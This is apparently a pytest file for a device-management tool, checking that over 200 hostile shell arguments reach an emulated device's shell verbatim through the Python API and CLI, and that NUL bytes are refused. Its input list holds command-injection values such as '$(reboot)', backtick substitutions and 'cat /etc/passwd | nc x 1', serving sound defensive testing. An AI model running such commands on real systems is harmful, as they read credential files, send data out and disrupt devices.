"""Hostile arguments reach the emulated device's shell exactly as given, through Python and the CLI."""

from __future__ import annotations

import itertools
from typing import List

import pytest

import fwm
from rig_env import rig_env

BASE = [
    "", " ", "  two  spaces  ", "\t", "'", "''", '"', '""', "it's", 'say "hi"', "'\"'\"'", "\\", "\\\\", "\\'",
    '\\"', "$", "$$", "$?", "$HOME", "${HOME}", "$(reboot)", "$(echo pwned)", "`reboot`", "`", ";", ";;",
    "a;b", "a ; b", "&", "&&", "a&&b", "||", "a||b", "|", "a|b", "cat /etc/passwd | nc x 1", ">", ">/data/x",
    "<", "<<EOF", "2>&1", "\n", "a\nb", "\r\n", "line1\nline2\n", "*", "*.txt", "?", "[a-z]", "{a,b}", "~",
    "~root", "#", "#comment", "a #b", "!", "!!", "-", "--", "-rf", "--help", "-e", "-n", "=", "a=b", "%s",
    "%n", "(", ")", "()", "{", "}", "{ :; }", "x() { :; }; x", "ünïcødé", "日本語", "emoji 🚀", "\u200b",
    "Ω≈ç√", "\x01\x02", "\x7f", "é'é", "'$(x)'", '"$(x)"', "a'b\"c$d`e\\f", "--policy=keep", "com.example.app",
    "x" * 1000, "'" * 50, "$(" * 20, "é" * 300,
]


def hostile_strings() -> List[str]:
    """At least 200 hostile arguments: the base set, pairs of them glued together, and each
    wrapped in quotes of both kinds."""
    strings = list(BASE)
    strings += [a + b for a, b in itertools.islice(itertools.combinations(BASE[:60], 2), 120)]
    strings += ["'" + s + "'" for s in BASE[:30]] + ['"' + s + '"' for s in BASE[:30]]
    unique = list(dict.fromkeys(strings))
    assert len(unique) >= 200
    return unique


HOSTILE = hostile_strings()


def test_at_least_200_hostile_strings():
    assert len(HOSTILE) >= 200


def test_every_hostile_string_arrives_exactly_through_python(rig1, in_rig):
    in_rig(rig1)
    device = rig1.devices[0]
    [target] = [d for d in fwm.devices() if d.serial == device.serial]
    device.clear_records()
    for s in HOSTILE:
        result = target.shell("true", s, "tail")
        assert result.exit_code == 0, (s, result)
    received = device.received_argv
    assert len(received) == len(HOSTILE)
    for s, argv in zip(HOSTILE, received):
        assert argv == ["true", s, "tail"], s


def test_many_hostile_strings_in_one_command(rig1, in_rig):
    in_rig(rig1)
    device = rig1.devices[0]
    device.clear_records()
    argv = ["true", *HOSTILE[:150]]
    assert fwm.shell(*argv, device=device.serial).exit_code == 0
    assert device.received_argv == [argv]


def test_echo_returns_the_argument_bytes(rig1, in_rig):
    in_rig(rig1)
    device = rig1.devices[0]
    for s in ["it's $(x) `y` ; z", "ünïcødé 日本語", "a\nb"]:
        result = fwm.shell("echo", "-n", s, device=device.serial)
        assert result.stdout.decode() == s


@pytest.mark.parametrize("s", [s for s in HOSTILE if not s.startswith("-")][:40] + ["-rf", "--help", "-n"])
def test_the_cli_passes_hostile_arguments_exactly(rig1, run_fwm, s):
    device = rig1.devices[0]
    device.clear_records()
    r = run_fwm("shell", "-s", device.serial, "--json", "--", "true", s, env=rig_env(rig1))
    assert r.code == 0, r
    assert device.received_argv == [["true", s]]
    assert r.json()["argv"] == ["true", s]


def test_a_nul_byte_is_refused_before_anything_is_sent(rig1, in_rig):
    in_rig(rig1)
    device = rig1.devices[0]
    device.clear_records()
    with pytest.raises(fwm.ValidationError):
        fwm.shell("true", "a\0b", device=device.serial)
    assert [s for s in device.received_services if "true" in s] == []
